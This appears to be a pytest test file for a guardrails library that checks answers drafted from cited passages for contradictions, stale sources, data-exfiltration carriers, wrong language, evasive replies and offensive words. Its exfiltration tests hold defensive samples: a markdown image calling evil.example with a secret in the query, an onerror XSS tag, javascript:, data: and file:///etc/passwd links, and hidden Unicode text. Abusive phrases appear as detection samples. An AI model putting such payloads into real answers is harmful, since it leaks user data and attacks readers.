"""The checks of an answer's substance and sources: each finds its fault, and nothing like it."""

from dataclasses import replace
from datetime import date

import pytest

from guardrails.checks.contradiction import ContradictionCheck
from guardrails.checks.evasive import EvasiveCheck
from guardrails.checks.exfiltration import KINDS, ExfiltrationCheck
from guardrails.checks.freshness import FreshnessCheck
from guardrails.checks.language import LanguageCheck, language, language_to_ask_in
from guardrails.checks.topics import TopicsCheck
from guardrails.contract import (
    Action,
    Case,
    Check,
    Citation,
    Draft,
    Finding,
    Outcome,
    Passage,
    Sentence,
    passage_object,
)
from guardrails.policy.load import load_policy

DEFAULT = load_policy()
CONTRADICTION, EVASIVE, EXFILTRATION = ContradictionCheck(), EvasiveCheck(), ExfiltrationCheck()
LANGUAGE, OFFENSIVE = LanguageCheck(), TopicsCheck(DEFAULT.topics, "draft")


def passage(
    text: str, name: str = "p1", title: str = "Claims", until: str | None = None
) -> Passage:
    return Passage(name, f"doc-{name}", "main", title, text, 0, len(text), None, until)


def case(answer: str, *others: Passage, source: str = "", question: str = "What applies?") -> Case:
    """A draft of one sentence that cites the first passage; ``others`` are evidence too."""
    first = passage(source or answer)
    citation = Citation(1, "p1", "doc-p1", "Claims", None, first.text, 0, len(first.text))
    draft = Draft((Sentence(answer, (1,)),), (citation,), "test")
    return Case(question, draft, (first, *others))


def fails(check: Check, judged: Case) -> list[Finding]:
    found = check.run(judged)
    assert found and {finding.check for finding in found} == {check.name}
    failed = [finding for finding in found if finding.outcome is Outcome.FAIL]
    assert len(found) == len(failed) or (len(found) == 1 and found[0].outcome is Outcome.PASS)
    return failed


@pytest.mark.parametrize(
    "check",
    [CONTRADICTION, EVASIVE, EXFILTRATION, LANGUAGE, FreshnessCheck()],
    ids=lambda check: check.name,
)
def test_a_case_without_a_draft_fails(check: Check) -> None:
    assert fails(check, Case("What applies?"))


# Contradiction


@pytest.mark.parametrize(
    ("answer", "other"),
    [
        ("The excess is £350.", "The excess is £500."),
        (
            "The excess for water damage is £350.",
            "Cover starts at noon. The water damage excess is £500.",
        ),
        ("Report a theft within 24 hours.", "You must report a theft within 48 hours."),
        ("The offer ends on 31 March 2024.", "The offer ends on 30 April 2024."),
        ("The discount is 10 %.", "The discount is 12 percent."),
        ("You can cancel within 14 days.", "You can cancel within thirty days."),
    ],
)
def test_another_value_in_another_passage_fails(answer: str, other: str) -> None:
    (finding,) = fails(CONTRADICTION, case(answer, passage(other, "p2")))
    assert finding.excerpt and finding.excerpt in other


@pytest.mark.parametrize(
    ("answer", "other", "question"),
    [
        ("The excess is £350.", "The excess is 350 pounds.", ""),
        ("The excess is £350.", "The excess is £350.00 for each claim.", ""),
        ("The excess for water damage is £350.", "The excess for theft is £500.", ""),
        ("The excess is £350.", "The fee for a copy is £5.", ""),
        ("Fee number 1 is £15.", "Fee number 2 is £25.", ""),
        ("The excess is £350 or £500.", "The excess is £500.", ""),
        ("The excess is £350.", "The excess is due within 30 days.", ""),
        ("The offer ends in March.", "The offer ends soon.", ""),
        ("The excess is £350.", "The excess is £500.", "What is the excess on claims?"),
    ],
)
def test_what_only_looks_like_a_contradiction_passes(
    answer: str, other: str, question: str
) -> None:
    about_else = passage(other, "p2", "Travel cover" if question else "Claims")
    judged = case(answer, about_else, question=question or "What applies?")
    assert not fails(CONTRADICTION, judged)


def test_the_cited_passage_itself_does_not_contradict() -> None:
    source = "The excess is £350. For drivers under 25 the excess is £500."
    assert not fails(CONTRADICTION, case("The excess is £350.", source=source))


def test_a_contradiction_is_told_once() -> None:
    twice = [passage("The excess is £500.", name) for name in ("p2", "p3")]
    assert len(fails(CONTRADICTION, case("The excess is £350.", *twice))) == 1


# Freshness


@pytest.mark.parametrize(
    ("until", "stale"),
    [("2026-03-01", True), ("2026-03-02", False), ("2027-01-01", False), (None, False)],
)
def test_a_source_is_stale_after_its_last_valid_day(until: str | None, stale: bool) -> None:
    judged = case("The excess is £350.")
    judged = replace(judged, evidence=(replace(judged.evidence[0], valid_until=until),))
    assert bool(fails(FreshnessCheck(lambda: date(2026, 3, 2)), judged)) == stale


def test_a_stale_passage_that_is_not_cited_does_not_count() -> None:
    judged = case("The excess is £350.", passage("Old.", "p2", until="2001-01-01"))
    assert not fails(FreshnessCheck(), judged)


def test_the_clock_of_the_default_is_todays() -> None:
    judged = case("The excess is £350.")
    old = replace(judged.evidence[0], valid_until="2001-01-01")
    assert fails(FreshnessCheck(), replace(judged, evidence=(old,)))


def test_a_date_that_is_none_is_no_pass() -> None:
    judged = case("The excess is £350.")
    odd = replace(judged.evidence[0], valid_until="soon")
    with pytest.raises(ValueError, match="soon"):
        FreshnessCheck().run(replace(judged, evidence=(odd,)))


def test_evidence_without_a_last_day_is_recorded_as_before_there_was_one() -> None:
    assert "valid_until" not in passage_object(passage("A."))
    assert passage_object(passage("A.", until="2026-03-01"))["valid_until"] == "2026-03-01"


# Exfiltration


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("See ![logo](https://evil.example/x.png?q=secret).", "image"),
        ("See ![logo][1].", "image"),
        ("The excess is <b>£350</b>.", "html"),
        ("<img src=x onerror=alert(1)>", "html"),
        ("<x-frame onload='go()'", "html"),
        ("<!-- note --> The excess is £350.", "html"),
        ("Click javascript:alert(1) now.", "code_link"),
        ("Open [this](data:text/html;base64,PHNjcmlwdD4=).", "code_link"),
        ("Open file:///etc/passwd now.", "code_link"),
        ("More at https://evil.example/claims.", "link"),
        ("More at www.evil.example today.", "link"),
        ("More [here](//evil.example/a).", "link"),
        ("More at evil.example/claims?id=12.", "link"),
        ("The excess\u200b is £350.", "hidden_text"),
        ("The excess is \u202e053£\u202c.", "hidden_text"),
        ("The excess is £350.\U000e0041\U000e0042", "hidden_text"),
        ("A\ufe01\ufe02\ufe03 is £350.", "hidden_text"),
        ("Code aGVsbG8gd29ybGQsIHRoaXMgaXMgYSBzZWNyZXQgbWVzc2FnZQ== it is.", "encoded"),
        ("Key 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 fits.", "encoded"),
    ],
)
def test_what_could_carry_data_away_fails(text: str, kind: str) -> None:
    judged = case(text, source="The excess is £350.")
    assert kind in {finding.label for finding in fails(EXFILTRATION, judged)}
    assert kind in KINDS


def test_a_link_with_something_added_to_the_one_of_the_source_fails() -> None:
    source = "More at https://claims.example/forms for members."
    added = case("More at https://claims.example/forms?q=secret.", source=source)
    cut = case("More at https://claims.example/for.", source=source)
    assert [f.label for f in fails(EXFILTRATION, added)] == ["link"]
    assert [f.label for f in fails(EXFILTRATION, cut)] == ["link"]


def test_a_link_of_a_passage_that_is_not_cited_fails() -> None:
    other = passage("More at https://claims.example/forms.", "p2")
    assert fails(EXFILTRATION, case("See https://claims.example/forms.", other, source="No."))


@pytest.mark.parametrize(
    "text",
    [
        "More at https://claims.example/forms, or www.claims.example.",
        "Write to claims@mutual.example or call +44 20 7946 0958.",
    ],
)
def test_what_stands_in_the_cited_passage_passes(text: str) -> None:
    assert not fails(EXFILTRATION, case(text, source=f"Contact us. {text} Thank you."))


@pytest.mark.parametrize(
    "text",
    [
        "Keep it if x < 5 and y > 3; a <b and c> d.",
        "Write <your name> and <policy number> on the form.",
        "Personal data: name, address and date of birth. File: see above.",
        "The and/or rule of section 4/2 applies (see [1]).",
        "Wow! [1] The excess is £350.",
        "Wales: \U0001f3f4\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f.",
        "A family \U0001f468\u200d\U0001f469\u200d\U0001f467 is covered \u2764\ufe0f.",
        "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft pays.",
        "Internationalisationinternationalisationinternational is one word.",
    ],
)
def test_what_only_looks_like_a_carrier_passes(text: str) -> None:
    assert not fails(EXFILTRATION, case(text, source="The excess is £350."))


# Language

IN = {
    "English": "You must report a theft to the police within 24 hours of the event.",
    "German": "Sie müssen einen Diebstahl innerhalb von 24 Stunden bei der Polizei melden.",
    "French": "Vous devez déclarer le vol à la police dans les 24 heures qui suivent.",
    "Spanish": "Usted debe denunciar el robo a la policía en las 24 horas y con los papeles.",
    "Italian": "Il furto deve essere denunciato alla polizia entro 24 ore con gli scontrini.",
    "Portuguese": "O roubo deve ser comunicado à polícia em 24 horas e com os seus documentos.",
    "Dutch": "U moet een diefstal binnen 24 uur bij de politie melden met het formulier.",
    "Swedish": "Du måste anmäla en stöld till polisen inom 24 timmar och skicka med ett kvitto.",
    "Polish": "Kradzież należy zgłosić na policję w ciągu 24 godzin i nie później, bo się nie da.",
    "Finnish": "Varkaus on ilmoitettava poliisille, ja se on tehtävä kun olet huomannut sen.",
    "Cyrillic": "Вы должны сообщить о краже в полицию в течение суток.",
    "Greek": "Πρέπει να δηλώσετε την κλοπή στην αστυνομία εντός της ημέρας.",
    "Arabic": "يجب عليك إبلاغ الشرطة عن السرقة خلال يوم واحد.",
    "Japanese": "盗難は二十四時間以内に警察に届け出てください。",
    "Cjk": "您必须在二十四小时内向警方报案并保留收据。",
    "Hangul": "도난은 스물네 시간 안에 경찰에 신고해야 합니다.",
}


@pytest.mark.parametrize("name", IN)
def test_a_language_is_known_by_its_words_or_script(name: str) -> None:
    assert language(IN[name]) == name


@pytest.mark.parametrize("name", [name for name in IN if name != "English"])
def test_an_answer_in_another_language_fails(name: str) -> None:
    question = "When do I have to report a theft to the police?"
    (finding,) = fails(LANGUAGE, case(IN[name], question=question))
    assert "English" in finding.message and name in finding.message
    assert not fails(LANGUAGE, case(IN[name], question=IN[name]))


@pytest.mark.parametrize(
    ("question", "answer"),
    [
        ("What is a force majeure?", "The clause de force majeure covers acts of God and war."),
        ("Was ist der SLA-Report?", "Der Service Level Agreement Report ist die Liste der Werte."),
        ("When is the office open?", "9:00 - 17:00"),
        ("Excess?", "Selbstbehalt 350 Euro"),
        ("What is the fee?", "£25."),
        ("Who is the director of the board?", "María de la Cruz y López"),
        ("What does μ mean in the table?", "It is the coefficient of friction μ of the surface."),
    ],
)
def test_terms_and_short_texts_are_in_no_other_language(question: str, answer: str) -> None:
    assert not fails(LANGUAGE, case(answer, question=question))


FOREIGN = """Kan jeg betale med Vipps? | Wie lange ist die Garantie auf Zelte?
Was kostet ein Zelt? | ¿Cuánto cuesta alquilar un kayak doble?
Combien coûte la location d'un kayak ? | ¿Hay tiendas?
Quanto costa una tenda? | Hvor mye koster en kajakk? | Сколько стоит палатка?
Ile kosztuje namiot? | Hvad koster et telt? | Hoeveel kost een tent?"""
AT_HOME = """Rio de la Plata cruise price | Data die in transit?
How long is the warranty of a Zelt? | Preis Zelt | Is the Hotel de la Ville an option?
Kayak per day | A la carte menu? | Vipps?
Who is Vincent van Gogh? | Price of Los Angeles to San Juan | "Was ist das" meaning?"""


@pytest.mark.parametrize("question", FOREIGN.replace("\n", " | ").split(" | "))
def test_a_question_in_another_language_than_the_documents_is_known(question: str) -> None:
    assert language_to_ask_in(question, [IN["English"]]) == "English"
    assert language_to_ask_in(question, ["Fjord 4: 389"]) == ""  # in no known language


@pytest.mark.parametrize("question", AT_HOME.replace("\n", " | ").split(" | "))
def test_names_and_short_questions_are_in_no_other_language(question: str) -> None:
    assert language_to_ask_in(question, [IN["English"]]) == ""


@pytest.mark.parametrize("language_of_one", ["German", "Cyrillic", "Arabic"])
def test_one_passage_in_the_language_of_the_question_is_enough(language_of_one: str) -> None:
    others = [IN["English"]] * 7
    arabic = "كم هي رسوم الإلغاء؟ رسوم إلغاء الحجز هي خمسة وعشرون دينارا"
    asked = {**IN, "Arabic": arabic}[language_of_one]
    assert language_to_ask_in(asked, others) == "English"
    assert language_to_ask_in(asked, [*others, asked]) == ""
    if language_of_one == "German":
        assert language_to_ask_in("Was kostet ein Zelt?", [*others, asked]) == ""


def test_only_what_is_sure_is_another_language_than_german() -> None:
    documents = [IN["German"]]
    assert language_to_ask_in(IN["English"], documents) == "German"
    assert language_to_ask_in("Preis Kajak?", documents) == ""
    assert language_to_ask_in("Was kostet ein Zelt?", documents) == ""


# Evasion


@pytest.mark.parametrize(
    "answer",
    [
        "I cannot answer this question.",
        "I'm sorry, but I can't help with that.",
        "I’m unable to provide this.",
        "As an AI language model, I have no opinion.",
        "I do not know.",
        "I don't have enough information to say.",
        "The provided context does not contain this information.",
        "The documents do not mention the answer.",
        "This is not stated in the text.",
        "There is no information about it.",
        "Please see the policy document for details.",
        "Refer to section 4.",
        "It depends.",
        "N/A",
        "Sorry.",
        "It is what it is.",
        "...",
        "The excess applies.",
        "What is the excess?",
        "Which excess do you mean, water or fire?",
    ],
)
def test_an_answer_without_substance_fails(answer: str) -> None:
    assert fails(EVASIVE, case(answer, question="What excess applies?"))


@pytest.mark.parametrize(
    ("question", "answer"),
    [
        ("What excess applies?", "£350."),
        ("What excess applies?", "See section 4 for exceptions. The excess is £350."),
        ("What excess applies?", "None applies to members of more than ten years."),
        ("What if I feel ill abroad?", "See a doctor and keep the receipt."),
        ("Is water damage covered?", "Water damage is covered."),
        ("Is the fee yearly or monthly?", "The fee is monthly."),
        ("Who answers calls?", "We cannot answer calls after 5 pm."),
        ("What do you need?", "The claim form must not mention other people."),
        ("What does the policy leave out?", "The policy does not include wear and tear."),
        ("Who is Ai?", "Ai is an artist."),
    ],
)
def test_an_answer_with_substance_passes(question: str, answer: str) -> None:
    assert not fails(EVASIVE, case(answer, question=question))


# Offensive words


def offensive(text: str) -> bool:
    return "offensive" in {finding.label for finding in fails(OFFENSIVE, case(text))}


@pytest.mark.parametrize(
    "text",
    [
        "That is bullshit.",
        "What the f*ck.",
        "Go f u c k yourself.".replace("u c k", "u-c-k").replace("f u", "f-u"),
        "This is sh1t.",
        "You are an idiot.",
        "You should die.",
        "Go and kill yourself.",
        "We hate immigrants.",
        "This is bull\u0455hit.",
    ],
)
def test_foul_language_fails(text: str) -> None:
    assert offensive(text)
    (rule,) = [r for r in DEFAULT.rules if r.label == "offensive"]
    assert rule.then is Action.REVIEW


@pytest.mark.parametrize(
    "text",
    [
        "The office is in Scunthorpe, Essex, near the assets department.",
        "Shitake mushrooms and a cockpit are covered; so is a Dickens first edition.",
        "Classes assess the assassin bug and the title of the analysis.",
        "You should diet. You are stupendous.",
        "Press the button to prickle the dough.",
        "The retardant slows the fire; the fagus tree and the niggardly rain do not.",
        "If you hate the cold, stay in.",
    ],
)
def test_ordinary_words_are_not_foul(text: str) -> None:
    assert not offensive(text)


@pytest.mark.parametrize(
    ("answer", "whole"),
    [
        ("We pay your own lawyer at £110 an hour at most.", True),
        ("You must be 18 years old at least.", True),
        ("The fee is 20 pounds for at least", False),
        ("It takes at least", False),
        ("We need 3 and at least", False),
    ],
)
def test_a_limit_behind_its_figure_breaks_nothing_off(answer: str, whole: bool) -> None:
    assert bool(fails(EVASIVE, case(answer, question="What do you pay?"))) is not whole


@pytest.mark.parametrize(
    ("question", "answer", "named"),
    [
        ("how much is a tapeworm treatment", "Treat dogs one to five days before.", False),
        ("price of e-bikes", "One person per bike.", False),
        ("What does the sauna cost?", "Sauna: 2 pm to 10 pm.", False),
        ("sauna price", "Sauna: 2 pm to 10 pm.", False),
        ("how much do I pay for a cot", "Cots stand in the cellar.", False),
        ("how much is a cot", "A cot is free of charge.", True),
        ("What does the sauna cost?", "Item | Price\nSauna | 12", True),
        ("mileage fee", "Mileage: 45p a mile.", True),
        ("How much is the discount?", "Members get 10% off.", True),
        ("how much storage does Team have", "Team has 2 TB.", True),
        ("Why is oil sold at a higher price?", "It encourages investment.", True),
        ("When were the fees last at such a price?", "That was in 1971.", True),
    ],
)
def test_who_asks_for_a_price_is_told_one(question: str, answer: str, named: bool) -> None:
    assert bool(fails(EVASIVE, case(answer, question=question))) is not named
